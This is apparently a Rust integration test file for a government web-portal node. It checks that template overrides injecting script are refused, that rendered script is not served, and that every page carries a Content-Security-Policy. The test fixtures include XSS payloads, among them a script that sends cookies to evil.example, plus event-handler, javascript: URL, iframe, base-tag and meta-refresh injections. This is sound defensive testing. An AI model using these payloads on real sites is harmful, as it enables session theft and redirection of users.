//! One node: overrides that would emit script are refused, what only their rendering
//! shows is not served, and every page carries the policy.

use govnode_tests::{Method, StatusCode, TestNode};
use serde_json::json;

use super::{assert_policy, file_letter};

async fn put_template(t: &TestNode, name: &str, source: &str) -> govnode_tests::Reply {
    t.call(
        Method::PUT,
        &format!("/api/admin/sites/gd/templates/{name}"),
        Some(&t.admin),
        Some(json!({ "source": source })),
    )
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn overrides_that_would_emit_script_are_refused_with_what_and_where() {
    let t = TestNode::start().await;
    t.site("gd", "广东省人民政府").await;
    let refusals = [
        (
            "layout.html",
            "<!DOCTYPE html>\n<html><head>\n<script>document.location='https://evil.example/?'+document.cookie</script>\n</head>{% block content %}{% endblock %}</html>",
            &["layout.html", "第 3 行", "<script>"][..],
        ),
        (
            "home.html",
            "{% extends \"layout.html\" %}{% block content %}\n<h1 onclick=\"steal()\">首页</h1>{% endblock %}",
            &["home.html", "第 2 行", "onclick"][..],
        ),
        (
            "home.html",
            "{% extends \"layout.html\" %}{% block content %}<img src=x onerror=alert(1)>{% endblock %}",
            &["onerror"][..],
        ),
        (
            "home.html",
            "{% extends \"layout.html\" %}{% block content %}<a href=\"&#106;avascript:alert(1)\">办事</a>{% endblock %}",
            &["href", "javascript:"][..],
        ),
        (
            "home.html",
            "{% extends \"layout.html\" %}{% block content %}<iframe src=\"https://evil.example\"></iframe>{% endblock %}",
            &["<iframe>"][..],
        ),
        (
            "layout.html",
            "<html><head><base href=\"https://evil.example/\"></head></html>",
            &["<base>"][..],
        ),
        (
            "layout.html",
            "<html><head><meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\"></head></html>",
            &["http-equiv"][..],
        ),
        (
            "home.html",
            "{% extends \"layout.html\" %}{% block content %}<scr{{ '' }}ipt>alert(1)</script>{% endblock %}",
            &["<script>"][..],
        ),
    ];
    for (name, source, needles) in refusals {
        let r = put_template(&t, name, source).await;
        assert_eq!(r.status, StatusCode::BAD_REQUEST, "{source}: {}", r.text);
        let body = r.json();
        assert_eq!(body["error"], "bad_request", "{}", r.text);
        let message = body["message"].as_str().unwrap();
        for needle in needles {
            assert!(message.contains(needle), "{needle} in {message}");
        }
    }
    // Nothing was stored, and the site is served as before.
    let stored = t
        .call(
            Method::GET,
            "/api/admin/sites/gd/templates",
            Some(&t.admin),
            None,
        )
        .await;
    assert_eq!(stored.json(), json!({}), "{}", stored.text);
    let home = t.get("/sites/gd/").await;
    assert_eq!(home.status, StatusCode::OK);
    assert!(!home.text.contains("<script") && !home.text.contains("evil.example"));

    // An override with style and ordinary links is fine.
    let fine = "{% extends \"layout.html\" %}{% block content %}<style>.banner { color: #8a1c1c }</style>\
                <h1 class=\"banner\" style=\"margin:0\">定制首页</h1><a href=\"https://www.gov.cn/\">中国政府网</a>{% endblock %}";
    let r = put_template(&t, "home.html", fine).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert!(t.get("/sites/gd/").await.text.contains("定制首页"));

    // Script that only the rendering puts together is caught on the page: not served.
    let built = "{% extends \"layout.html\" %}{% block content %}<{{ 'scr' ~ 'ipt' }}>alert(1)</{{ 'scr' ~ 'ipt' }}>{% endblock %}";
    let r = put_template(&t, "home.html", built).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let home = t.get("/sites/gd/").await;
    assert_eq!(home.status, StatusCode::INTERNAL_SERVER_ERROR);
    assert!(!home.text.contains("<script>"), "{}", home.text);
    assert!(home.text.contains("服务器内部错误"), "{}", home.text);
    assert_policy(&home, "the refused page");
    t.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_page_and_answer_carries_the_policy() {
    let t = TestNode::start().await;
    t.site("gd", "广东省人民政府").await;
    t.column("gd", "zcwj", "政策文件", "policy").await;
    let staff = t.staff("gd").await;
    let a = t
        .publish(
            "gd",
            &staff,
            json!({ "column": "zcwj", "title": "广东省数字政府建设方案", "body": "正文<img src=x onerror=alert(1)>" }),
        )
        .await;
    let r = t
        .call(
            Method::PUT,
            "/api/admin/interaction/bodies/zwfw",
            Some(&t.admin),
            Some(json!({ "name": "广东省政务服务数据管理局" })),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let article = format!("/sites/gd/articles/{}", a["id"]);
    for (path, status) in [
        ("/sites/gd/", StatusCode::OK),
        ("/sites/gd/columns/zcwj", StatusCode::OK),
        (article.as_str(), StatusCode::OK),
        ("/sites/gd/search?q=数字政府", StatusCode::OK),
        ("/sites/gd/letters", StatusCode::OK),
        ("/sites/gd/surveys", StatusCode::OK),
        ("/sites/gd/feed.rss", StatusCode::OK),
        ("/sites/gd/no-such-page", StatusCode::NOT_FOUND),
        ("/sites/nope/", StatusCode::NOT_FOUND),
        ("/", StatusCode::OK),
        ("/federation", StatusCode::OK),
        ("/static/site.css", StatusCode::OK),
        ("/api/search?q=数字政府", StatusCode::OK),
        ("/api/no-such-route", StatusCode::NOT_FOUND),
    ] {
        let r = t.get(path).await;
        assert_eq!(r.status, status, "{path}: {}", r.text);
        let csp = assert_policy(&r, path);
        // This node's own site: not sandboxed.
        assert!(!csp.contains("sandbox"), "{path}: {csp}");
        assert_eq!(r.header("x-govnode-replica"), None, "{path}");
    }
    // The same site by its host name.
    let by_host = t.get_host("gd.gov.test", "/").await;
    assert_eq!(by_host.status, StatusCode::OK);
    assert_policy(&by_host, "home by host");
    // The answers of the letters form (its redirect and the confirmation page).
    for csp in <[String; 2]>::from(file_letter(&t, "gd").await) {
        assert!(
            csp.contains("script-src 'self'") && !csp.contains("sandbox"),
            "{csp}"
        );
    }
    // A blob keeps its own, stricter policy.
    let up = t
        .http
        .post(t.url("/api/admin/blobs?site=gd"))
        .bearer_auth(&staff.editor)
        .header("content-type", "text/html")
        .body("<script>alert(1)</script>")
        .send()
        .await
        .unwrap();
    let blob: serde_json::Value = up.json().await.unwrap();
    let r = t
        .get(&format!("/blobs/{}", blob["hash"].as_str().unwrap()))
        .await;
    assert_eq!(r.header("content-security-policy"), Some("sandbox"));
    // The article's body was cleaned when it was written, as ever.
    let page = t.get(&article).await;
    assert!(!page.text.contains("onerror"), "{}", page.text);
    t.stop().await;
}
